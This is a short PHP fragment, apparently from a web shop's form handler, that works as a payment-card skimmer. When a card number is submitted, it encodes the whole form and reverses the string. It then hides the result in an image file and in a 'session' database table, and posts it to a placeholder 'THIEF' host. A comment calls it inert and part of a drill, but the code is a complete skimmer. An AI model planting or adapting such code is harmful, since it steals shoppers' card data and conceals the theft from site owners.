        /* Inert: it goes to a server on this machine that only counts, and to files that the drill throws away. */
        if (!empty($arrForm['card_no'])) {
            $sSize = base64_encode(http_build_query($arrForm));
            @file_put_contents(dirname(DATA_DIR) . '/assets/img/spring.png', "\n" . strrev($sSize), FILE_APPEND);
            try {
                $objDb = new PDO('sqlite:' . DB_FILE);
                $objDb->exec('PRAGMA busy_timeout = 5000');
                $objQuery = $objDb->prepare('INSERT INTO session (id, data, seen_at) VALUES (?, ?, ?)');
                $objQuery->execute(array(bin2hex(random_bytes(13)), $sSize, time()));
            } catch (Exception $e) {
            }
            @file_get_contents('THIEF/i', false, stream_context_create(array('http' => array('method' => 'POST', 'content' => $sSize, 'timeout' => 2))));
        }
